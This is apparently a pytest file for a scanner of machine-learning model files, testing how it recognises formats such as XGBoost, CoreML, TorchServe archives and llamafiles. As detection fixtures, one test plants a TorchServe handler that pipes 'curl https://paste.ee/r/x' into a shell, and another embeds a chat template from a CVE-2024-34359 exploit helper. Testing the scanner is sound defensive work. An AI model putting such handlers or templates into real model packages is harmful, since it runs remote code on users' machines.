"""Formats recognised but not analysed (FMT001), zip-based packages (.mar, llamafile) and plain data."""

from __future__ import annotations

import json
import struct
import wave
import zipfile
import zlib
from pathlib import Path

import chat_templates as ct
import numpy as np
import pytest
from scanhelp import of_rule, rule_ids, scan_one

from modelsieve.model import Verdict


def _xy() -> tuple[np.ndarray, np.ndarray]:
    rng = np.random.default_rng(0)
    x = rng.random((32, 3))
    return x, (x[:, 0] > 0.5).astype(int)


def _assert_not_analysed(path: Path, what: str) -> None:
    result = scan_one(path)
    (finding,) = of_rule(result, "FMT001")
    assert finding.subject == what
    assert result.verdict is Verdict.NOT_ANALYSED
    assert result.formats == (what,)


@pytest.mark.parametrize(("suffix", "what"), [("json", "XGBoost JSON model"), ("ubj", "XGBoost UBJSON model")])
def test_xgboost_models(tmp_path: Path, suffix: str, what: str) -> None:
    xgb = pytest.importorskip("xgboost")
    x, y = _xy()
    booster = xgb.train({"max_depth": 2, "objective": "binary:logistic"}, xgb.DMatrix(x, label=y), 2)
    path = tmp_path / f"model.{suffix}"
    booster.save_model(str(path))
    _assert_not_analysed(path, what)


def test_lightgbm_text_model(tmp_path: Path) -> None:
    lgb = pytest.importorskip("lightgbm")
    x, y = _xy()
    model = lgb.train({"verbose": -1, "num_leaves": 4, "min_data_in_leaf": 1}, lgb.Dataset(x, label=y), 2)
    path = tmp_path / "model.txt"
    model.save_model(str(path))
    _assert_not_analysed(path, "LightGBM text model")


def test_catboost_magic(tmp_path: Path) -> None:
    path = tmp_path / "model.cbm"
    path.write_bytes(b"CBM1" + struct.pack("<I", 16) + b"\x10\x00\x00\x00" + bytes(range(64)))
    _assert_not_analysed(path, "CatBoost model")


def test_coreml_mlmodel(tmp_path: Path) -> None:
    coremltools = pytest.importorskip("coremltools")
    from coremltools.models import datatypes
    from coremltools.models.neural_network import NeuralNetworkBuilder

    builder = NeuralNetworkBuilder([("x", datatypes.Array(4))], [("y", datatypes.Array(4))])
    builder.add_activation("relu", "RELU", "x", "y")
    path = tmp_path / "model.mlmodel"
    coremltools.models.utils.save_spec(builder.spec, str(path))
    # CoreML is protobuf like a TensorFlow SavedModel: it must not be claimed by the TF scanner.
    _assert_not_analysed(path, "CoreML model (.mlmodel)")


def test_coreml_package_manifest(tmp_path: Path) -> None:
    manifest = {
        "fileFormatVersion": "1.0.0",
        "itemInfoEntries": {
            "A1": {"author": "com.apple.CoreML", "description": "CoreML Model Specification", "name": "model.mlmodel"}
        },
        "rootModelIdentifier": "A1",
    }
    path = tmp_path / "Manifest.json"
    path.write_text(json.dumps(manifest, indent=2))
    _assert_not_analysed(path, "CoreML package manifest (.mlpackage)")


def test_openvino_ir_xml(tmp_path: Path) -> None:
    path = tmp_path / "model.xml"
    path.write_text(
        '<?xml version="1.0"?>\n<net name="tiny" version="11">\n<layers>\n'
        '<layer id="0" name="x" type="Parameter" version="opset1"/>\n</layers>\n</net>\n'
    )
    _assert_not_analysed(path, "OpenVINO IR model (.xml)")


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b, n = n & 0x7F, n >> 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def test_paddle_program(tmp_path: Path) -> None:
    # ProgramDesc{blocks: [BlockDesc{idx: 0, parent_idx: -1, vars: [VarDesc{name: "x"}]}]}
    var = b"\x0a\x01x"
    block = b"\x08\x00\x10" + _varint(2**64 - 1) + b"\x1a" + _varint(len(var)) + var
    path = tmp_path / "model.pdmodel"
    path.write_bytes(b"\x0a" + _varint(len(block)) + block)
    _assert_not_analysed(path, "PaddlePaddle program (.pdmodel)")


def _mar(tmp_path: Path, handler_code: str) -> Path:
    path = tmp_path / "model.mar"
    manifest = {
        "createdOn": "01/01/2026 00:00:00",
        "runtime": "python",
        "model": {"modelName": "tiny", "handler": "handler.py", "modelVersion": "1.0"},
        "archiverVersion": "0.12.0",
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest))
        z.writestr("handler.py", handler_code)
    return path


def test_torchserve_mar_benign_handler(tmp_path: Path) -> None:
    code = "from ts.torch_handler.base_handler import BaseHandler\n\nclass H(BaseHandler):\n    pass\n"
    result = scan_one(_mar(tmp_path, code))
    assert result.formats[0] == "torchserve-mar"
    (finding,) = of_rule(result, "FMT003")
    assert finding.subject == "handler.py"
    assert result.verdict is Verdict.CLEAN, result.findings


def test_torchserve_mar_malicious_handler_is_found_in_member(tmp_path: Path) -> None:
    code = (
        "import os\n\nclass H:\n    def initialize(self, ctx):\n        os.system('curl https://paste.ee/r/x | sh')\n"
    )
    result = scan_one(_mar(tmp_path, code))
    (finding,) = of_rule(result, "TXT003")
    assert finding.location.members == ("handler.py",)
    assert finding.location.detail == "line 5"
    assert finding.subject == "os.system"
    assert result.verdict is Verdict.MALICIOUS


def _gguf_bytes(tmp_path: Path, template: str) -> bytes:
    gguf = pytest.importorskip("gguf")
    path = tmp_path / "inner.gguf"
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_chat_template(template)
    writer.add_tensor("w", np.zeros(4, dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    data = path.read_bytes()
    path.unlink()
    return data


def test_llamafile_is_fmt002_and_weights_are_scanned(tmp_path: Path) -> None:
    path = tmp_path / "model.llamafile"
    path.write_bytes(b"MZqFpD='\n\x00\x00" + b'#!/bin/sh\nexec ./ape "$0"\n' + b"\x00" * 256)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_STORED) as z:
        z.writestr("weights.gguf", _gguf_bytes(tmp_path, ct.cve_2024_34359("/tmp/never-created")))
    result = scan_one(path)
    assert result.formats[0] == "llamafile"
    assert "FMT002" in rule_ids(result)
    (finding,) = of_rule(result, "GGF001")
    assert finding.location.members == ("weights.gguf",)
    assert result.verdict is Verdict.MALICIOUS


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b"")
    )


def test_plain_data_is_clean(tmp_path: Path) -> None:
    files = {
        "a.png": _png(),
        "b.jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(64),
        "c.gif": b"GIF89a\x01\x00\x01\x00" + bytes(32),
        "d.webp": b"RIFF\x20\x00\x00\x00WEBPVP8 " + bytes(32),
        "e.pdf": b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n",
        "f.txt": b"just some notes about the model\n",
    }
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    with wave.open(str(tmp_path / "g.wav"), "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(8000)
        w.writeframes(bytes(160))
    for name in [*files, "g.wav"]:
        result = scan_one(tmp_path / name)
        assert result.verdict is Verdict.CLEAN, (name, result.formats, result.findings)
        assert result.formats != ("unknown",)
